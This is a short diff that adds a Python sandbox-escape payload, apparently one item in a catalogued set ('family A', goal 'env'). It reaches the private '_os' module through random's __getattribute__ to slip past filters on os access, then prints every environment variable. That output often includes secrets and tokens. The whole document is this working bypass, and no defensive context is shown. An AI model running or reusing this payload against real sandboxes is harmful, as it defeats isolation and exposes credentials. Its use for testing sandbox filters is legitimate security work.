@@ -1,0 +1,3 @@
+# family: A (a bound __getattribute__)   goal: env
+from random import __getattribute__ as ga
+print(dict(ga("_os").environ))
